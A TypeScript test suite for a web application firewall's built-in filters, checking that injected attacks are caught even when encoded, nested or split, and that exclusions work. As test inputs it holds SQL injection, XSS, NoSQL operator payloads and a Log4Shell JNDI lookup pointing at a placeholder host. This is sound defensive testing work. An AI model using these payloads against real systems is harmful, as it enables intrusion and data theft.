// How the built-in filters look through a request: what is exempt, what is hidden, and in pieces.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, test } from "node:test";
import { filtersReference } from "../../../scripts/filters-reference.ts";
import { evaluateBuiltin, openBuiltin, scoreOf, stepBuiltin } from "../../../src/immune/builtin/evaluate.ts";
import type { Exclusion } from "../../../src/immune/builtin/exclusions.ts";
import { parseBody, parseHead } from "../../../src/immune/builtin/parsed-request.ts";
import { buildBuiltin } from "../../../src/immune/builtin/screen.ts";
import { openTransaction } from "../../../src/immune/seclang/transaction.ts";
import { parseSecLang } from "../../../src/immune/seclang/parse.ts";
import { buildRuleSet } from "../../../src/immune/seclang/rule-set.ts";
import { attackValues } from "../attack-values.ts";
import type { Case } from "./one-value.ts";
import { hitsOf, requestOf } from "./one-value.ts";

const screen = buildBuiltin();
const ATTACK = "1 union select name, hash from staff";

function namesOf(value: Case, exclude: readonly Exclusion[] = []): string[] {
  const { facts, body } = requestOf(value);
  return hitsOf(exclude.length === 0 ? screen : buildBuiltin({ exclude }), facts, body).map(({ name }) => name);
}

describe("a hit", () => {
  test("says which filter found what, where, and how much it counts", () => {
    const { facts } = requestOf({ query: "a=b&id=1%20union%20select%201" });
    const [hit] = evaluateBuiltin(screen, parseHead(facts), "head").hits;
    assert.ok(hit !== undefined);
    assert.equal(hit.where, "ARGS:id");
    assert.equal(hit.attackClass, "sql-injection");
    assert.ok(scoreOf([hit]) >= 5);
    assert.match(hit.matched, /union select/);
  });

  test("is told once a filter, however many values show it", () => {
    const names = namesOf({
      query: Array.from({ length: 50 }, (_, i) => `a${i}=%3Cscript%3Ealert(1)%3C/script%3E`).join("&"),
    });
    assert.deepEqual(names, [...new Set(names)]);
  });

  test("is the same on the views that the rule engine has made of a request", () => {
    const rules = buildRuleSet(parseSecLang("SecRuleEngine On", "my.conf"), { readData: () => "" });
    const { facts } = requestOf(ATTACK);
    const hits = evaluateBuiltin(screen, openTransaction(rules, facts), "head").hits;
    assert.deepEqual(hits, evaluateBuiltin(screen, parseHead(facts), "head").hits);
    assert.ok(hits.length > 0);
  });
});

describe("an exclusion", () => {
  test("takes a filter away everywhere, on a path, or in a parameter", () => {
    const names = namesOf(ATTACK);
    assert.ok(names.includes("sql-statement"));
    const without = (exclusion: Omit<Exclusion, "filter">): boolean =>
      !namesOf(ATTACK, [{ filter: "sql-statement", ...exclusion }]).includes("sql-statement");
    assert.ok(without({}));
    assert.ok(without({ path: "/search" }));
    assert.ok(without({ path: "/s*h", parameter: "q" }));
    assert.ok(without({ parameter: "ARGS:q" }));
    assert.ok(!without({ path: "/other" }));
    assert.ok(!without({ parameter: "id" }));
    assert.ok(!without({ path: "/search", parameter: "qq" }));
  });

  test("of * takes all filters, and leaves other parameters to them", () => {
    assert.deepEqual(namesOf(ATTACK, [{ filter: "*", parameter: "q" }]), []);
    assert.ok(namesOf({ query: `q=x&id=${encodeURIComponent(ATTACK)}` }, [{ filter: "*", parameter: "q" }]).length > 0);
  });

  test("of a filter that there is not is an error", () => {
    assert.throws(() => buildBuiltin({ exclude: [{ filter: "sql-injektion" }] }), { code: "CELLWS_E_FILTER_UNKNOWN" });
  });
});

describe("what was found harmless once is remembered, and", () => {
  const attacks: readonly Case[] = [
    { query: "a%3Cscript%3Ealert(1)%3C/script%3E=1&b%3Cscript%3Ealert(2)%3C/script%3E=1" },
    { query: "b%3Cscript%3Ealert(2)%3C/script%3E=1" },
  ];

  test("a value is not, that stood beside another attack", () => {
    const fresh = buildBuiltin();
    for (const value of [...attacks, ...attacks]) {
      const { facts, body } = requestOf(value);
      assert.notDeepEqual(hitsOf(fresh, facts, body), [], JSON.stringify(value));
    }
  });

  test("a value is not, whose finding was exempt on that path only", () => {
    const fresh = buildBuiltin({ exclude: [{ filter: "*", path: "/free" }] });
    const { facts } = requestOf({ header: ["X-A", "${jndi:ldap://198.51.100.7/a}"] });
    assert.deepEqual(hitsOf(fresh, { ...facts, target: "/free" }, ""), []);
    assert.notDeepEqual(hitsOf(fresh, facts, ""), []);
  });
});

describe("an attack is found", () => {
  const hidden: Readonly<Record<string, Case>> = {
    "in JSON within a form's field": { form: `payload=${encodeURIComponent(JSON.stringify({ a: [{ b: ATTACK }] }))}` },
    "in base64": Buffer.from(ATTACK).toString("base64"),
    "in JSON within base64": Buffer.from(JSON.stringify({ a: ATTACK })).toString("base64"),
    "encoded three times": encodeURIComponent(encodeURIComponent(encodeURIComponent("<script>alert(1)</script>"))),
    "in a name": { query: `${encodeURIComponent("<script>alert(1)</script>")}=1` },
    "in a cookie": { cookie: "a=b; id=1%20union%20select%201" },
    "in an attribute of XML": { xml: `<?xml version="1.0"?><a b="${ATTACK}"/>` },
    "behind 8 KB of other text": { form: `a=${"x".repeat(8200)}<script>alert(1)</script>` },
    "across the edge of a piece": { form: `a=${"x".repeat(4090)}<script>alert(1)</script>${"x".repeat(5000)}` },
    "in the second of two members of one name": { json: { a: "x", b: ATTACK } },
  };
  for (const [where, value] of Object.entries(hidden)) {
    test(where, () => assert.notDeepEqual(namesOf(value), []));
  }

  test("in a body that breaks off", () => {
    const { facts } = requestOf({ json: {} });
    const request = parseBody(parseHead(facts), `{"a":"${ATTACK}`);
    assert.notDeepEqual(evaluateBuiltin(screen, request, "body").hits, []);
  });
});

test("a field for a password takes punctuation in any order, and no attack", () => {
  for (const name of ["password", "user[password]", "new_password_confirmation", "passwd", "pwd"]) {
    const names = (value: string): string[] => namesOf({ form: new URLSearchParams([[name, value]]).toString() });
    for (const value of [`x"--Fv]s9'`, "qq|sh4:", "a;`b`;c", "{{(4)}}"]) assert.deepEqual(names(value), [], value);
    for (const value of ["' or '1'='1", "'or'1'='1", "<script>alert(1)</script>", "x';drop table users"]) {
      assert.notDeepEqual(names(value), [], `${name}: ${value}`);
    }
  }
});

test("a member of JSON that asks for everything is an operator of a database, a price is none", () => {
  assert.ok(namesOf({ json: { user: "a", password: { $ne: null } } }).includes("nosql-injection"));
  assert.ok(namesOf({ json: { password: { $gt: "" } } }).includes("nosql-injection"));
  assert.deepEqual(namesOf({ json: { price: { $lt: 20 }, $ref: "#/a", text: "$in stock" } }), []);
});

describe("a large body", () => {
  test("is looked at in turns, with the same result", () => {
    const { facts } = requestOf({ form: "" });
    const body = `${"a=some+words+and+more&".repeat(4000)}b=${encodeURIComponent(ATTACK)}`;
    const request = parseBody(parseHead(facts), body);
    const atOnce = evaluateBuiltin(screen, request, "body").hits;
    const run = openBuiltin(screen, request, "body");
    let turns = 1;
    while (!stepBuiltin(run, 100_000)) turns += 1;
    assert.ok(turns > 3, String(turns));
    assert.deepEqual(run.hits, atOnce);
  });

  test("costs few steps a byte, however it is made, and is not given up", () => {
    for (const { name, value } of attackValues()) {
      const { facts } = requestOf({ form: "" });
      const run = openBuiltin(
        screen,
        parseBody(
          parseHead(facts),
          `a=${encodeURIComponent(Buffer.from(value, "latin1").toString("hex"))}&b=${value.replaceAll(/[&%+=]/g, "_")}`,
        ),
        "body",
      );
      stepBuiltin(run, Infinity);
      assert.equal(run.overrun, false, name);
    }
  });

  test("that costs more than a request may is given up, and says so", () => {
    const { facts } = requestOf({ form: "" });
    const run = openBuiltin(screen, parseBody(parseHead(facts), `a=${encodeURIComponent(ATTACK)}`), "body");
    run.meter.left = 0;
    assert.ok(stepBuiltin(run, Infinity));
    assert.equal(run.overrun, true);
  });
});

test("docs/FILTERS.md lists the filters as the table has them (if not: node scripts/filters-reference.ts)", () => {
  assert.equal(readFileSync("docs/FILTERS.md", "utf8"), filtersReference());
});
